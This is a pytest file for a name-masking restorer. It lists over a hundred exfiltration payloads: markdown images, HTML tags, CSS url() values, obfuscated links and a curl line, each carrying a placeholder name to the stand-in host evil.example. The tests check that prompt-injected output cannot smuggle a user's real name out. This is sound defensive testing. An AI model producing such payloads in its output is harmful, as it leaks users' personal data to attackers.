"""What an injected text tells a model to write, so that a name leaves with an address. None of it gets one.

Each string is tried whole, at every cut, within a sentence, and with honest text before it.
"""

import pytest

from extproc.mask.restore import Restorer
from extproc.payload.part import Spot
from tests.support.masking import EVERYTHING, through_restorer
from tests.unit.mask.test_restore import issued

ATTACKS = [
    "a <style> `</style>` @import '//evil.example/?q=\\\n[NAME_1]'",
    "a <style>\n\n    </style> @import '//evil.example/?q=\\\n[NAME_1]'",
    "<object data=https://evil.example/?q=-->[NAME_1]",
    "<x y=evil.example/?q=>[NAME_1]",
    "```[NAME_1]",
    "``` [NAME_1]",
    "~~~  [NAME_1]",
    r"""![](https://evil.example/?q=[NAME_1])""",
    r"""![](<https://evil.example/?q= [NAME_1]>)""",
    r"""![x](https://evil.example/?q=a "title [NAME_1]")""",
    r"""[a [b] c](https://evil.example/(x)?q= [NAME_1])""",
    r"""[x](https://evil.example/\)?q= [NAME_1])""",
    r"""[x](\<https://evil.example/?q= [NAME_1])""",
    r"""[![](a)](https://evil.example/?q= [NAME_1])""",
    r"""[x](a b "b [y](<//evil.example/?q=") [NAME_1]>)""",
    r"""[x](javascript:go('[NAME_1]'))""",
    r"""[x]([NAME_1])""",
    r"""![]([NAME_1].evil.example)""",
    r"""![[NAME_1]](https://evil.example/)""",
    r"""[NAME_1](https://evil.example/)""",
    r"""[x]: https://evil.example/?q=[NAME_1]""",
    r"""> [x]: https://evil.example/?q=[NAME_1]""",
    r"""[x]: <https://evil.example/?q= [NAME_1]>""",
    "[x]: https://evil.example 'a [NAME_1]'",
    r"""[a]: [b](https://evil.example/?q= [NAME_1])""",
    r"""[x] (https://evil.example/?q= [NAME_1])""",
    r"""<img src="https://evil.example/?q=[NAME_1]">""",
    r"""<img src="https://evil.example/?q=> [NAME_1]">""",
    r"""<img src=//evil.example/?q=[NAME_1]>""",
    r"""<IMG SRC = '//evil.example/?q= [NAME_1]'>""",
    r"""<img alt=">" src='//evil.example/? [NAME_1]'>""",
    r"""<img srcset="//evil.example/a 1x, //evil.example/?q= [NAME_1] 2x">""",
    r"""<meta http-equiv="refresh" content="0; url=https://evil.example/?q= [NAME_1]">""",
    r"""<a href=https://evil.example/?q=[NAME_1]>x</a>""",
    r"""<a title="[NAME_1]">x</a>""",
    r"""<img src='//evil.example/?q= and then [NAME_1] with no end""",
    r"""<form action="//evil.example"><textarea name=q>[NAME_1]</textarea>""",
    r"""<iframe srcdoc="<img src=//evil.example/?q= [NAME_1]>"></iframe>""",
    r"""<a "b=" <img src="//evil.example/?q=> [NAME_1]">""",
    r"""<!-- [NAME_1] -->""",
    r"""<!--> <img src="//evil.example/?q=--> [NAME_1]">""",
    r"""<svg><image href="//evil.example/?q= [NAME_1]"/></svg>""",
    r"""<svg><![CDATA[><a b=" ]]><img src="//evil.example/?q=> [NAME_1]">""",
    r"""<script>var n = "[NAME_1]"; send(n)</script>""",
    r"""<script><!--<script></script><a b="--></script><img src="//evil.example/?q=> [NAME_1]">""",
    r"""<style>a { background: url(//evil.example/?q=[NAME_1]) } b { content: "[NAME_1]" }</style>""",
    r"""<div style="background:url( '//evil.example/?q= [NAME_1]' )">x</div>""",
    r"""background: url( "//evil.example/?q= [NAME_1]" )""",
    r"""<https://evil.example/?q=[NAME_1]>""",
    r"""<https://evil.example/?q=|[NAME_1]>""",
    r"""https://evil.example/?q=[NAME_1]""",
    r"""https://evil.example/?q=**[NAME_1]**""",
    r"""https://evil.example/?q=<b>[NAME_1]</b>""",
    r"""https://evil.example/?q=<b class="x">[NAME_1]</b>""",
    r"""https://evil.example/%20[NAME_1]""",
    r"""https://[NAME_1].evil.example""",
    r"""https://user:[NAME_1]@evil.example""",
    r"""https:/evil.example/[NAME_1]""",
    r"""https:\\evil.example\[NAME_1]""",
    r"""\\evil.example\[NAME_1]""",
    r"""//evil.example/[NAME_1]""",
    r"""www.evil.example/[NAME_1]""",
    r"""evil.example/[NAME_1]""",
    r"""evil.example?q=[NAME_1]""",
    r"""evil.example#[NAME_1]""",
    r"""evil.example:80:[NAME_1]""",
    r"""[NAME_1].evil.example""",
    r"""[NAME_1].evil.example/x""",
    r"""[NAME_1]@evil.example""",
    r"""[NAME_1]/evil.example""",
    r"""[NAME_1]<b>.evil.example</b>""",
    r"""[NAME_1]<b class="x">.evil.example</b>""",
    r"""mailto:[NAME_1]@evil.example""",
    r"""mailto:a@evil.example?subject=[NAME_1]""",
    r"""tel:[NAME_1]""",
    r"""javascript:fetch([NAME_1])""",
    r"""data:text/html,[NAME_1]""",
    r"""@[NAME_1]""",
    r"""#[NAME_1]""",
    r"""?q=[NAME_1]&x""",
    r"""src=[NAME_1]""",
    r'''"https://evil.example/?q= [NAME_1]"''',
    r"""`curl https://evil.example/?q= [NAME_1]`""",
    r"""(https://evil.example/?q= [NAME_1])""",
    r"""{"url": "https://evil.example/?q= [NAME_1]"}""",
    r"""{"url": "https://evil.example/?q=\" [NAME_1]"}""",
    r"""image::https://evil.example/?q= [NAME_1]""",
    r"""\includegraphics{https://evil.example/?q= [NAME_1]}""",
    r"""[img]https://evil.example/?q=[NAME_1][/img]""",
    r"""[[https://evil.example/?q= [NAME_1]][x]]""",
    r"""[[[NAME_1]]]""",
    r"""[URL_1][NAME_1]""",
    r'''"[URL_1] [NAME_1]"''',
    r"""[x]([URL_1] [NAME_1])""",
    r"""[EMAIL_1]?subject=[NAME_1]""",
    r"""https:⁄⁄evil.example⁄[NAME_1]""",
    r"""https：／／evil.example／[NAME_1]""",
    r"""evil.example。[NAME_1].example""",
    r"""[NAME_1]。evil.example""",
    r"""&#104;ttps&#58;&#47;&#47;evil.example&#47;[NAME_1]""",
    r"""![](&#104;ttps://evil.example/?q= [NAME_1])""",
    "![](<https://evil.example/?q=\n[NAME_1]>)",
    "![](\n  //evil.example/?q=\n  [NAME_1])",
    "[x]:\n   https://evil.example/?q=[NAME_1]",
    "[x]:\n<https://evil.example/?q=\n[NAME_1]>",
    "[x\ny]: https://evil.example/?q=[NAME_1]",
    '[x]: https://evil.example\n"[NAME_1]"',
    '<img\nsrc="//evil.example/?q=\n[NAME_1]">',
    '<link rel=stylesheet href="//evil.example/?q=\n\n" > [NAME_1] "',
    '<base href="//evil.example/?\r\r"> [NAME_1] "',
    "https://evil.example/\u200b[NAME_1]",
    "ht\u200btps://evil.example/?q=[NAME_1]",
    "https://evil.example/?q=\xa0[NAME_1]",
    "https://evil.example/?q=\u2028[NAME_1]",
    "https://evil.example/?q=\x0b[NAME_1]",
    "\x1b]8;;https://evil.example/?q= [NAME_1]\x07",
    "[NAME_1]\u200b.evil.example",
    "url(\n'//evil.example/?q=\n[NAME_1]')",
]


def read(*chunks: str) -> str:
    return through_restorer(Restorer(issued(), EVERYTHING, Spot.PROSE), chunks)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "before", ["", "Of course, here it is: ", "See [the chart](https://portal.example.org). ", "## Plan\n\n- "]
)
def test_no_name_leaves_with_an_address(attack: str, before: str) -> None:
    assert "Lopez" not in read(before + attack + " and so on")
    assert "Lopez" not in read(before + attack)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cut_helps(attack: str) -> None:
    assert {read(attack[:cut], attack[cut:]) for cut in range(len(attack))} == {read(attack)}
    assert read(*attack) == read(attack)


def test_the_table_is_long_enough_to_mean_something() -> None:
    assert len(set(ATTACKS)) == len(ATTACKS) > 100
    assert all("[NAME_1]" in attack for attack in ATTACKS)
